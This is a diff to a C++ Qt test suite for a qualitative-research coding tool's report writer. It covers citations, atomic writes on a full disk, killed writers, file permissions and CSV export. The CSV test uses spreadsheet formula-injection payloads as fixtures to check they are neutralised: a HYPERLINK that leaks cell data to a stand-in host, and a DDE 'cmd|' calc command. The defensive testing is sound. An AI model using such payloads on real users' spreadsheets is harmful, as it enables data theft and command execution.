@@ -1,8 +1,10 @@
+#include "common/AtomicFile.h"
 #include "import/DocumentReader.h"
 #include "project/Codebook.h"
 #include "project/CodingStore.h"
 #include "project/DocumentStore.h"
 #include "project/Project.h"
+#include "report/CsvField.h"
 #include "report/Report.h"
 #include "text/TextIndex.h"
 #include "text/TextNormalizer.h"
@@ -10,12 +12,24 @@
 #include <quazip.h>
 #include <quazipfile.h>
 
+#include <QDir>
+#include <QElapsedTimer>
+#include <QFileInfo>
 #include <QFile>
+#include <QJsonArray>
+#include <QJsonDocument>
 #include <QProcess>
 #include <QTemporaryDir>
 #include <QTest>
 #include <QTextDocument>
 #include <QXmlStreamReader>
+
+#include <cerrno>
+#include <csignal>
+
+#include <sys/mount.h>
+#include <sys/stat.h>
+#include <unistd.h>
 
 using namespace marginalia;
 
@@ -151,7 +165,8 @@ private:
     }
 
     // Codes the first occurrence of the passage, converting its QString offset to code points.
-    void code(qint64 document, const QString &text, const QString &passage, qint64 codeId, const QString &memo = {})
+    void code(qint64 document, const QString &text, const QString &passage, qint64 codeId, const QString &memo = {},
+              const QString &coder = {}, bool newPassage = true)
     {
         const qsizetype at = text.indexOf(passage);
         QVERIFY(at >= 0);
@@ -161,9 +176,11 @@ private:
         coding.start = TextIndex::codePointLength(QStringView(text).left(at));
         coding.end = coding.start + TextIndex::codePointLength(passage);
         coding.memo = memo;
+        coding.coder = coder;
         auto added = CodingStore(*m_project).add(coding);
         QVERIFY2(added, added ? "" : qPrintable(added.error()));
-        m_excerpts.append(passage);
+        if (newPassage)
+            m_excerpts.append(passage);
     }
 
     QString write(const ReportOptions &options, const QString &name)
@@ -190,6 +207,17 @@ private:
         QVERIFY(text.contains(QStringLiteral("site: 北京")));
         QVERIFY(text.contains(QStringLiteral("教学方法")));
         QVERIFY(text.contains(QStringLiteral("coder Li Na")));
+        // Citations, worked out by hand. 北京: line 1 "访谈员：请介绍一下您的教学。" is 14 code points and its "\n" the
+        // 15th; line 2 "教师：…" starts at 15, so "我们" is at 18 (0-based) and the 12 characters end at 30: paragraph 2,
+        // speaker 教师, characters 19–30 counted from 1. Kunming: "𠀀😀 Interviewer: " is 16 code points (line 1 has no
+        // speaker: 😀 is no letter), "How do you teach?" 16–32, "\n" 33, "Teacher: We say" 34–48: paragraphs 1–2,
+        // speaker Teacher, characters 17–49.
+        QVERIFY2(text.contains(QStringLiteral("paragraph 2 · speaker 教师 · characters 19–30")), qPrintable(text));
+        QVERIFY(text.contains(QStringLiteral("paragraphs 1–2 · speaker Teacher · characters 17–49")));
+        // The passage Li Na and Wang both coded is shown once, with both of them.
+        QCOMPARE(text.count(QStringLiteral("我们用于教学的方法是讨论")), 1);
+        QVERIFY(text.contains(QStringLiteral("coders Li Na, Wang")));
+        QVERIFY(text.contains(QStringLiteral("3 passages (4 codings)")));
     }
 
 private Q_SLOTS:
@@ -214,6 +242,8 @@ private Q_SLOTS:
         code(beijing, chinese, QStringLiteral("我们用于教学的方法是讨论"), methodsId);
         code(kunming, english, QStringLiteral("We say \"learn, then teach\" and <practise> & reflect."), reflectionId);
         code(kunming, english, QStringLiteral("How do you teach?\nTeacher: We say"), methodsId, m_memo);
+        // A second coder codes the Chinese passage exactly as Li Na did: the same passage, a second coding.
+        code(beijing, chinese, QStringLiteral("我们用于教学的方法是讨论"), methodsId, {}, QStringLiteral("Wang"), false);
     }
 
     void html()
@@ -233,6 +263,9 @@ private Q_SLOTS:
         text.replace(QChar::ParagraphSeparator, u'\n').replace(QChar::LineSeparator, u'\n');
         checkHasEverything(text);
         QVERIFY(text.contains(QStringLiteral("Codes × site")));
+        // The matrix names both measures; 教学方法 in 北京: one passage, two codings, one document.
+        QVERIFY(text.contains(QStringLiteral("Passages / codings (documents with the code)")));
+        QVERIFY(html.contains(QStringLiteral("<td>1 / 2 (1)</td>")));
         // Context: 4 characters on each side of the Chinese excerpt.
         QVERIFY(text.contains(QStringLiteral("…\n教师：我们用于教学的方法是讨论，学生们…")));
     }
@@ -248,6 +281,10 @@ private Q_SLOTS:
         QVERIFY(md.contains(QStringLiteral("**我们用于教学的方法是讨论**")));
         QVERIFY(md.contains(QStringLiteral("> **How do you teach?\n> Teacher: We say**")));
         QVERIFY(md.contains(QStringLiteral("\\<practise\\>")));
+        // Citations (worked out in checkHasEverything); the passage of two coders once.
+        QVERIFY(md.contains(QStringLiteral("paragraph 2 · speaker 教师 · characters 19–30 · coders Li Na, Wang")));
+        QVERIFY(md.contains(QStringLiteral("paragraphs 1–2 · speaker Teacher · characters 17–49 · coder Li Na")));
+        QCOMPARE(md.count(QStringLiteral("我们用于教学的方法是讨论")), 1);
         // By site, then code: Kunming sorts before 北京; each site has its codes under it.
         const qsizetype kunming = md.indexOf(QStringLiteral("\n## Kunming\n"));
         const qsizetype beijing = md.indexOf(QStringLiteral("\n## 北京\n"));
@@ -280,6 +317,23 @@ private Q_SLOTS:
         for (qsizetype i = 1; i < records.size(); ++i)
             memos.append(records[i][memoColumn]);
         QVERIFY(memos.contains(m_memo));
+        // The passage of two coders is one row, naming both; citations as in checkHasEverything, one number a cell.
+        const auto column = [&](const char *name) { return header.indexOf(QLatin1String(name)); };
+        const qsizetype chineseRow = excerpts.indexOf(QStringLiteral("我们用于教学的方法是讨论")) + 1;
+        QVERIFY(chineseRow > 0);
+        const QStringList &row = records[chineseRow];
+        QCOMPARE(row[column("coders")], QStringLiteral("Li Na, Wang"));
+        QCOMPARE(row[column("codings")], QStringLiteral("2"));
+        QCOMPARE(row[column("first_paragraph")], QStringLiteral("2"));
+        QCOMPARE(row[column("last_paragraph")], QStringLiteral("2"));
+        QCOMPARE(row[column("speakers")], QStringLiteral("教师"));
+        QCOMPARE(row[column("first_character")], QStringLiteral("19"));
+        QCOMPARE(row[column("last_character")], QStringLiteral("30"));
+        const qsizetype englishRow = excerpts.indexOf(QStringLiteral("How do you teach?\nTeacher: We say")) + 1;
+        QCOMPARE(records[englishRow][column("first_paragraph")], QStringLiteral("1"));
+        QCOMPARE(records[englishRow][column("last_paragraph")], QStringLiteral("2"));
+        QCOMPARE(records[englishRow][column("first_character")], QStringLiteral("17"));
+        QCOMPARE(records[englishRow][column("last_character")], QStringLiteral("49"));
     }
 
     void docx()
@@ -326,6 +380,266 @@ private Q_SLOTS:
         for (const QString &excerpt : std::as_const(m_excerpts))
             QVERIFY2(text.contains(withoutSpace(excerpt)), qPrintable(excerpt + QStringLiteral(" in ") + read->text));
         QVERIFY(text.contains(QStringLiteral("北京-教师访谈.txt")));
+        // The citations (see checkHasEverything), as a reader of the PDF copies them.
+        QVERIFY2(text.contains(withoutSpace(QStringLiteral("paragraph 2 · speaker 教师 · characters 19–30"))),
+                 qPrintable(read->text));
+        QVERIFY(text.contains(withoutSpace(QStringLiteral("paragraphs 1–2 · speaker Teacher · characters 17–49"))));
+        QVERIFY(text.contains(withoutSpace(QStringLiteral("coders Li Na, Wang"))));
+    }
+
+    // Every format on a full disk: the write fails with a sentence naming the cause, the previous report stays byte
+    // for byte, and nothing is left beside it. As root, on a real full tmpfs mounted for the test; always also with a
+    // write failure injected into AtomicFile (the hook a test without root can use).
+    void fullDiskKeepsThePreviousReport_data()
+    {
+        QTest::addColumn<QString>("name");
+        for (const char *name : {"full.html", "full.md", "full.csv", "full.docx", "full.odt", "full.pdf"})
+            QTest::newRow(name) << QString::fromLatin1(name);
+    }
+
+    void fullDiskKeepsThePreviousReport()
+    {
+        QFETCH(QString, name);
+        auto data = ReportWriter::collect(*m_project, {});
+        QVERIFY(data);
+        auto format = ReportWriter::formatForPath(name);
+        QVERIFY(format);
+        // The new report differs from the old one (another title), so a half-written one would show.
+        ReportData changed = *data;
+        changed.title = QStringLiteral("A newer report, which must not replace the old one half-written");
+
+        // Injected: writes fail with ENOSPC after half as many bytes as the old report has.
+        {
+            QTemporaryDir folder;
+            const QString path = QDir(folder.path()).filePath(name);
+            QVERIFY(ReportWriter::write(*data, *format, path));
+            QFile old(path);
+            QVERIFY(old.open(QIODevice::ReadOnly));
+            const QByteArray before = old.readAll();
+            QVERIFY(before.size() > 500);
+            AtomicFile::injectWriteFailure(before.size() / 2, ENOSPC);
+            auto written = ReportWriter::write(changed, *format, path);
+            AtomicFile::injectWriteFailure(-1, 0);
+            QVERIFY(!written);
+            QVERIFY2(written.error().contains(QStringLiteral("the disk is full")), qPrintable(written.error()));
+            QFile after(path);
+            QVERIFY(after.open(QIODevice::ReadOnly));
+            QCOMPARE(after.readAll(), before);
+            QVERIFY(QDir(folder.path()).entryList(QDir::Files | QDir::Hidden).filter(QStringLiteral("marginalia-tmp")).isEmpty());
+        }
+
+        // A real full disk: a 2 MB tmpfs, the old report on it, then the rest filled up.
+        if (::geteuid() != 0)
+            QSKIP("mounting a small tmpfs needs root; the injected failure above covered the writer");
+        QTemporaryDir mountPoint;
+        const QByteArray where = QFile::encodeName(mountPoint.path());
+        if (::mount("tmpfs", where.constData(), "tmpfs", 0, "size=2m") != 0)
+            QSKIP("cannot mount a tmpfs here");
+        struct Unmount {
+            QByteArray where;
+            ~Unmount() { ::umount2(where.constData(), MNT_DETACH); }
+        } unmount{where};
+        const QString path = QDir(mountPoint.path()).filePath(name);
+        QVERIFY(ReportWriter::write(*data, *format, path));
+        {
+            QFile filler(QDir(mountPoint.path()).filePath(QStringLiteral("filler")));
+            QVERIFY(filler.open(QIODevice::WriteOnly | QIODevice::Unbuffered));
+            const QByteArray block(4096, 'x');
+            while (filler.write(block) == block.size()) {
+            }
+        }
+        QFile old(path);
+        QVERIFY(old.open(QIODevice::ReadOnly));
+        const QByteArray before = old.readAll();
+        old.close();
+        auto written = ReportWriter::write(changed, *format, path);
+        QVERIFY(!written);
+        QVERIFY2(written.error().contains(QStringLiteral("the disk is full")), qPrintable(written.error()));
+        QFile after(path);
+        QVERIFY(after.open(QIODevice::ReadOnly));
+        QCOMPARE(after.readAll(), before);
+        const QStringList left = QDir(mountPoint.path()).entryList(QDir::Files | QDir::Hidden);
+        QCOMPARE(left, (QStringList{QStringLiteral("filler"), name}));
+    }
+
+    // marginalia-cli report killed at moments spread over its run: the ODT target is always a whole report (the
+    // previous one or a new one), never a cut or empty file; the next run removes the killed writers' temporaries.
+    void killedReportWriterLeavesAWholeReport()
+    {
+        QTemporaryDir folder;
+        const QString path = QDir(folder.path()).filePath(QStringLiteral("k.odt"));
+        const QStringList arguments = {QStringLiteral("report"), m_project->path(), QStringLiteral("--out"), path};
+        auto runToEnd = [&] {
+            QProcess process;
+            process.start(QStringLiteral(MARGINALIA_CLI), arguments);
+            return process.waitForFinished(60000) && process.exitStatus() == QProcess::NormalExit
+                   && process.exitCode() == 0;
+        };
+        QElapsedTimer clock;
+        clock.start();
+        QVERIFY(runToEnd());
+        const qint64 fullRun = std::max<qint64>(clock.elapsed(), 50);
+        auto isWholeReport = [&] {
+            const QString text = odtText(zipEntry(path, QStringLiteral("content.xml")));
+            return !text.startsWith(QStringLiteral("XML ERROR")) && text.contains(QStringLiteral("我们用于教学的方法是讨论"));
+        };
+        QVERIFY(isWholeReport());
+        int killed = 0;
+        int finished = 0;
+        for (int run = 0; run < 10; ++run) {
+            QProcess process;
+            process.start(QStringLiteral(MARGINALIA_CLI), arguments);
+            QVERIFY(process.waitForStarted());
+            // From early (still starting) to late (writing or done): run/10 of 1.2 full runs.
+            QTest::qWait(static_cast<int>(fullRun * 12 * run / 100));
+            if (process.state() == QProcess::Running)
+                ::kill(static_cast<pid_t>(process.processId()), SIGKILL);
+            if (process.state() != QProcess::NotRunning)
+                QVERIFY(process.waitForFinished(60000));
+            if (process.exitStatus() == QProcess::CrashExit)
+                ++killed;
+            else
+                ++finished;
+            QVERIFY2(isWholeReport(), qPrintable(QStringLiteral("after run %1").arg(run)));
+        }
+        QVERIFY2(killed > 0, "no run was killed: the test proved nothing");
+        qInfo("%d runs killed, %d finished", killed, finished);
+        QVERIFY(runToEnd());
+        const QStringList left = QDir(folder.path()).entryList(QDir::Files | QDir::Hidden);
+        QCOMPARE(left, QStringList{QStringLiteral("k.odt")});
+    }
+
+    // New reports get the permissions the umask gives any new file; a replaced report keeps its mode.
+    void permissionsFollowTheUsersFiles()
+    {
+        QTemporaryDir folder;
+        auto data = ReportWriter::collect(*m_project, {});
+        QVERIFY(data);
+        const QString path = QDir(folder.path()).filePath(QStringLiteral("p.html"));
+        const mode_t previous = ::umask(022);
+        const bool written = bool(ReportWriter::write(*data, ReportFormat::Html, path));
+        ::umask(previous);
+        QVERIFY(written);
+        struct stat status {};
+        QCOMPARE(::stat(QFile::encodeName(path).constData(), &status), 0);
+        QCOMPARE(status.st_mode & 07777, mode_t(0644));   // 0666 & ~022
+        QCOMPARE(::chmod(QFile::encodeName(path).constData(), 0640), 0);
+        QVERIFY(ReportWriter::write(*data, ReportFormat::Html, path));
+        QCOMPARE(::stat(QFile::encodeName(path).constData(), &status), 0);
+        QCOMPARE(status.st_mode & 07777, mode_t(0640));
+        // Through a symbolic link: the file it points to is replaced, the link stays a link.
+        const QString link = QDir(folder.path()).filePath(QStringLiteral("link.html"));
+        QVERIFY(QFile::link(path, link));
+        ReportData titled = *data;
+        titled.title = QStringLiteral("Through the link");
+        QVERIFY(ReportWriter::write(titled, ReportFormat::Html, link));
+        QVERIFY(QFileInfo(link).isSymLink());
+        QFile target(path);
+        QVERIFY(target.open(QIODevice::ReadOnly));
+        QVERIFY(target.readAll().contains("Through the link"));
+    }
+
+    // A killed writer's temporary (its process gone) is removed when the report is written next; a running
+    // writer's (this process) and other files stay.
+    void staleTemporariesAreRemovedByName()
+    {
+        QTemporaryDir folder;
+        QDir dir(folder.path());
+        // A process id that is not running: a child that has exited and been reaped.
+        QProcess child;
+        child.start(QStringLiteral("true"));
+        QVERIFY(child.waitForFinished());
+        const qint64 deadPid = child.processId() > 0 ? child.processId() : 999999;
+        const QString dead = QStringLiteral(".s.html.marginalia-tmp-%1-AbC123").arg(deadPid);
+        const QString running = QStringLiteral(".s.html.marginalia-tmp-%1-XyZ789").arg(::getpid());
+        const QString other = QStringLiteral(".s.html.part");
+        for (const QString &name : {dead, running, other}) {
+            QFile file(dir.filePath(name));
+            QVERIFY(file.open(QIODevice::WriteOnly));
+            file.write("half a report");
+        }
+        auto data = ReportWriter::collect(*m_project, {});
+        QVERIFY(data);
+        QVERIFY(ReportWriter::write(*data, ReportFormat::Html, dir.filePath(QStringLiteral("s.html"))));
+        QStringList left = dir.entryList(QDir::Files | QDir::Hidden);
+        left.sort();
+        QStringList expected{other, running, QStringLiteral("s.html")};
+        expected.sort();
+        QCOMPARE(left, expected);
+    }
+
+    // Names, sites, coders and memos that a spreadsheet would run as formulas come out as text, read back by
+    // Python's csv module (what a spreadsheet's importer does): a leading quote, then the text unchanged.
+    void csvCannotAttackItsReader()
+    {
+        QTemporaryDir folder;
+        auto created = Project::create(QDir(folder.path()).filePath(QStringLiteral("h.marginalia")));
+        QVERIFY(created);
+        Project &project = **created;
+        const QString documentName = QStringLiteral("=HYPERLINK(\"http://example.com/?leak=\"&A1)");
+        const QString codeName = QStringLiteral("+cmd|' -C calc'!A0");
+        const QString coder = QStringLiteral("@SUM(1+1)");
+        const QString memo = QStringLiteral("-2+3");
+        const QString site = QStringLiteral("-1+cmd|' -C calc'!A0");
+        project.setCurrentCoder(coder);
+        NewDocument document;
+        document.name = documentName;
+        document.text = QStringLiteral("=1+1 is a formula\n");
+        DocumentStore store(project);
+        auto id = store.add(document);
+        QVERIFY2(id, id ? "" : qPrintable(id.error()));
+        QVERIFY(store.setAttribute(*id, QStringLiteral("site"), site));
+        NewCode code;
+        code.name = codeName;
+        auto codeId = Codebook(project).add(code);
+        QVERIFY2(codeId, codeId ? "" : qPrintable(codeId.error()));
+        NewCoding coding;
+        coding.documentId = *id;
+        coding.codeId = *codeId;
+        coding.start = 0;
+        coding.end = 4;   // "=1+1": the excerpt is hostile too
+        coding.memo = memo;
+        QVERIFY(CodingStore(project).add(coding));
+        auto data = ReportWriter::collect(project, {});
+        QVERIFY(data);
+        const QString path = QDir(folder.path()).filePath(QStringLiteral("h.csv"));
+        QVERIFY(ReportWriter::write(*data, ReportFormat::Csv, path));
+
+        QProcess python;
+        python.start(QStringLiteral("python3"),
+                     {QStringLiteral("-c"),
+                      QStringLiteral("import csv, json, sys\n"
+                                     "with open(sys.argv[1], newline='', encoding='utf-8-sig') as f:\n"
+                                     "    print(json.dumps([dict(r) for r in csv.DictReader(f)]))\n"),
+                      path});
+        if (!python.waitForFinished(30000) || python.exitCode() != 0)
+            QSKIP("python3 is not available");
+        const QJsonArray rows = QJsonDocument::fromJson(python.readAllStandardOutput()).array();
+        QCOMPARE(rows.size(), 1);
+        const QJsonObject row = rows.first().toObject();
+        QCOMPARE(row.value(QStringLiteral("document")).toString(), u'\'' + documentName);
+        QCOMPARE(row.value(QStringLiteral("code")).toString(), u'\'' + codeName);
+        QCOMPARE(row.value(QStringLiteral("coders")).toString(), u'\'' + coder);
+        QCOMPARE(row.value(QStringLiteral("memo")).toString(), u'\'' + memo);
+        QCOMPARE(row.value(QStringLiteral("site")).toString(), u'\'' + site);
+        QCOMPARE(row.value(QStringLiteral("excerpt")).toString(), QStringLiteral("'=1+1"));
+        // Our own numbers stay numbers: characters 1–4, paragraph 1, one coding.
+        QCOMPARE(row.value(QStringLiteral("first_character")).toString(), QStringLiteral("1"));
+        QCOMPARE(row.value(QStringLiteral("last_character")).toString(), QStringLiteral("4"));
+        QCOMPARE(row.value(QStringLiteral("first_paragraph")).toString(), QStringLiteral("1"));
+        QCOMPARE(row.value(QStringLiteral("codings")).toString(), QStringLiteral("1"));
+        // The rule itself: tab, carriage return and full-width signs too; plain numbers are no formulas.
+        QCOMPARE(csvTextField(QStringLiteral("\tx")), QStringLiteral("'\tx"));
+        QCOMPARE(csvTextField(QStringLiteral("\r=1")), QStringLiteral("\"'\r=1\""));
+        QCOMPARE(csvTextField(QStringLiteral("＝1+1")), QStringLiteral("'＝1+1"));
+        QCOMPARE(csvTextField(QStringLiteral("-3")), QStringLiteral("-3"));
+        QCOMPARE(csvTextField(QStringLiteral("-0.25")), QStringLiteral("-0.25"));
+        QCOMPARE(csvTextField(QStringLiteral("a=b")), QStringLiteral("a=b"));
+        // No cell of the file begins with a formula character.
+        for (auto it = row.constBegin(); it != row.constEnd(); ++it) {
+            const QString cell = it.value().toString();
+            QVERIFY2(cell.isEmpty() || !QStringLiteral("=+-@\t\r").contains(cell.front()), qPrintable(it.key()));
+        }
     }
 
     void cli()
